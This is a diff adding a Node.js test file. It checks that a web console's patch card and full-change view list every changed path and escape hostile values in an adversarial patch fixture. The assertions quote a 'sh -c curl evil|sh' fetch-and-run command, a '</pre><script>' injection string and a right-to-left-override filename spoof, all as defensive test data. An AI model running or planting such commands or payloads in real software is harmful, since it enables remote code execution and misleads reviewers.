@@ -1,0 +1,36 @@
+import assert from 'node:assert/strict';
+import { describe, test } from 'node:test';
+import { renderCard } from '../../../../src/adapters/web/render-card.ts';
+import { renderFullChange } from '../../../../src/adapters/web/render-full-change.ts';
+import { patchCard } from '../../core/changes/adversarial-patch.ts';
+import { assertGoldenHtml } from './golden-html.ts';
+
+const CSRF = 'TOKEN-for-golden-files-0123456789abcdef';
+const full = patchCard.change!.full;
+
+describe('console: a patch card and its full change', () => {
+  test('card-patch: says how many paths exist and links to the full change', () => {
+    const markup = renderCard(patchCard, { csrfToken: CSRF }).value;
+    assertGoldenHtml('web/card-patch', markup);
+    assert.match(markup, /17 changed paths; 10 shown, values shortened/);
+    assert.match(markup, /<a href="\/requests\/cs-p4tch0adv1#full-change">Show full change<\/a>/);
+    assert.ok(!markup.includes('curl evil'), 'the card alone does not show the command');
+  });
+
+  test('full-change: every path with whole values and the exact patch, escaped', () => {
+    const markup = renderFullChange(full).value;
+    assertGoldenHtml('web/full-change', markup);
+    for (const { path } of full.paths)
+      assert.ok(markup.includes(`<code>${path}</code>`), `${path} is listed`);
+    assert.ok(
+      markup.includes('&quot;command&quot;:[&quot;sh&quot;,&quot;-c&quot;,&quot;curl evil|sh&quot;]'),
+    );
+    assert.equal(
+      markup.match(/<pre/g)?.length,
+      markup.match(/<\/pre>/g)?.length,
+      'a value holding </pre> cannot close a block early',
+    );
+    assert.ok(!markup.includes('<script>') && markup.includes('&lt;/pre&gt;&lt;script&gt;'));
+    assert.ok(!markup.includes('\u202e') && markup.includes('\\u202egnp.exe'));
+  });
+});
